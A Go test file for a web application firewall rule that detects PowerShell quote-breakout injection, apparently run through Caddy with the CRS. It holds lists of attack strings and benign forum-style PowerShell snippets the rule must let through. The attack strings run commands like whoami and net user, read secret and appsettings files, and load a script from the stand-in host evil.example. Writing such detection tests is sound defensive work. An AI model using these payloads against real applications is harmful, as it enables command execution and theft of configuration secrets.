package waf

import (
	"net/url"
	"testing"
)

// attack89PSAttacks are attack 89's finds against rule 210213: a
// PowerShell string an application builds a command with (Get-Mailbox
// -Identity '<value>') broken out of with a grouping that dot-sources a
// built name (., PowerShell's other call operator: read as & is), or
// that reads a file the server can read, joined into the string the
// application returns; each passed through a built Caddy in the query, a
// form and JSON.
var attack89PSAttacks = []string{
	"x'+(.('who'+'ami'))+'",
	"x'+(.('i'+'ex') 'whoami')+'",
	`x'+(.("net"+" user"))+'`,
	`x' + (gc C:\secret.txt) + '`,
	`x' + (type ..\appsettings.json) + '`,
	"x' + ([IO.File]::ReadAllText('appsettings.json')) + '",
	// the same shapes in more spellings
	"x'+(. ('who'+'ami'))+'",
	"x'+(& ('who'+'ami'))+'",
	"x'+(. 'whoami')+'",
	"x'+(. $x)+'",
	`x' + (cat ..\appsettings.json) + '`,
	"x' + ([System.IO.File]::ReadAllBytes('C:\\secret.bin')) + '",
	"x' + ([IO.File]::ReadAllLines('appsettings.json'))[0] + '",
	`' + (gc C:\secret.txt) + '`,
	`x" + (gc C:\secret.txt) + "`,
	// strings the value opens and joins after the breakout
	`x'+'a'+(gc C:\secret.txt)+'`,
	`x' + "" + (gc C:\secret.txt) + '`,
	`x' + (. \\evil.example\s\x.ps1) + '`,
	`x' + (\\evil.example\s\x.ps1) + '`,
	`x' + (.\uploads\x.ps1) + '`,
}

// attack89PSCRSCatches are more spellings the CRS alone refuses (its
// PowerShell cmdlet list reads Get-Content and Import-Csv).
var attack89PSCRSCatches = []string{
	// a file by its drive in braces, the file system provider's variable
	`x' + ${C:\secret.txt} + '`,
	`x' + ${c:/inetpub/wwwroot/appsettings.json} + '`,
	`x' + (Get-Content -Raw C:\inetpub\wwwroot\appsettings.json) + '`,
	`x' + (Get-Content -Path 'C:\secret.txt') + '`,
	`x' + (Import-Csv C:\data\users.csv) + '`,
}

// attack89PSBenign: PowerShell how-tos and forum posts that read files,
// dot-source scripts and call .NET's File class with no quote breakout
// (a string the value opens itself and joins is a post's code), and
// prose near them.
var attack89PSBenign = []string{
	`"Total: " + (gc file.txt).Count`,
	`$lines = "Lines: " + (type .\log.txt).Count`,
	`$n = 'Lines: ' + (gc C:\logs\app.log).Length`,
	"'a' + 'b' + (gc notes.txt).Count",
	"Use gc to print a file, e.g. gc .\\notes.txt, or cat notes.txt",
	"On Windows type (like cat on Linux) prints a file: type C:\\notes.txt",
	"Load the helpers first with . .\\script.ps1 and then call them",
	"Dot-source it ('. .\\tools.ps1') so the functions stay in scope",
	`"Text: " + ([IO.File]::ReadAllLines("in.txt")).Count`,
	`"Size: " + ([IO.File]::ReadAllBytes("a.bin")).Length`,
	"It's 'Report' (type of file) + notes",
	"the 'Pets' (cat food) + 'toys' aisle",
	"see 'Notes' (type 2.5) + 'more'",
	`"Output: " + (& $cmd)`,
	`"Loaded: " + (. .\lib.ps1)`,
	`"Built: " + (.\build.ps1)`,
}

// attack89PSCode: forum posts' PowerShell that rule 210213 lets through
// (checked on the operator alone: the CRS refuses each itself, for
// Get-Content, Write-Host or ReadAllText).
var attack89PSCode = []string{
	`"Total: " + (Get-Content file.txt).Count`,
	`Write-Host ("Lines: " + (Get-Content .\log.txt).Count)`,
	"Use gc (short for Get-Content) to print a file, e.g. gc .\\notes.txt",
	`$text = [IO.File]::ReadAllText('C:\data\in.txt')`,
	`"Rows: " + (Import-Csv .\users.csv).Count`,
	`"Config: " + ${env:APPDATA} + "\app"`,
	"'Cost: ' + ${total} + ' USD'",
}

// TestAttack89PS: rule 210213 refuses attack 89's breakouts (query, JSON
// and a form) through a real Caddy, where the CRS alone lets them
// through, and none of the benign texts.
func TestAttack89PS(t *testing.T) {
	for _, v := range attack89PSCode {
		if psQuoteBreakout(v) {
			t.Errorf("210213 matches %q", v)
		}
	}
	operatorTable(t, "210213", psQuoteBreakout, attack89PSAttacks, attack89PSCRSCatches, attack89PSBenign)
	var forms []probe
	for _, v := range attack89PSAttacks[:6] {
		forms = append(forms, probe{name: "form " + v, method: "POST", path: "/api/items", contentType: "application/x-www-form-urlencoded",
			body: "q=" + url.QueryEscape(v)})
	}
	runBeyondTheCRS(t, nil, forms, nil)
}
